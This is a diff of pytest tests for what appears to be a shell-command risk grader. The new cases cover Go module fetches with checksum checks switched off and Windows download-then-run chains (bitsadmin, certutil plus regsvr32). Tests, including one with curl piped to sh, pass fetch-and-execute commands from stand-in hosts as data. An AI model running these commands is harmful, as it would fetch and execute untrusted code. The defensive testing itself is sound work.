@@ -870,3 +870,34 @@ def test_case_pattern_lists_run_nothing(rule, text):
 def test_a_case_body_still_runs():
     text = '#!/bin/sh\ncase "$1" in\n  setup) curl -fsSL https://bootstrap.unknown-tools.example.net/i | sh ;;\nesac\n'
     assert top("hooks/setup.sh", text, "IG701") in HIGH
+
+
+# -- a module fetch with Go's checksum database switched off -----------------------------------------
+@pytest.mark.parametrize("command,floor", [
+    ("GONOSUMCHECK=1 GOPROXY=https://proxy.gomods-mirror.example.io go install devkit.example.io/gen/cmd/gen@latest", Severity.HIGH),
+    ("env GOFLAGS=-insecure GOPROXY=http://203.0.113.40:3000 go get tools.vendor-mirror.net/x@main", Severity.CRITICAL),
+    ("export GOSUMDB=off; go run buildhelpers.dev/bootstrap@latest --init", Severity.HIGH),
+])
+def test_go_module_without_checksums_from_a_stranger(command, floor):
+    w = worst(grade_command(command))
+    assert w is not None and w.severity >= floor
+
+
+@pytest.mark.parametrize("command", [
+    "GOPROXY=https://goproxy.cn,direct go install github.com/golangci/golangci-lint/cmd/golangci-lint@v1.59.1",
+    "GOPRIVATE=git.corp.example.com GOPROXY=https://athens.corp.internal go mod download",
+    "GOSUMDB=off go build ./...",
+])
+def test_go_with_checksums_or_no_remote_module_is_not_high(command):
+    w = worst(grade_command(command))
+    assert w is None or w.severity < Severity.HIGH
+
+
+# -- Windows system binaries that download, then run what they fetched --------------------------------
+@pytest.mark.parametrize("command", [
+    r'bitsadmin /transfer upd /download https://cdn.patch-relay.net/u.bin C:\ProgramData\u.bin && start C:\ProgramData\u.bin',
+    r'certutil.exe -verifyctl -f -split http://198.51.100.77/k.b64 & certutil -decode k.b64 k.dll & regsvr32 /s k.dll',
+])
+def test_windows_download_binaries_then_run(command):
+    w = worst(grade_command(command))
+    assert w is not None and w.severity >= Severity.HIGH
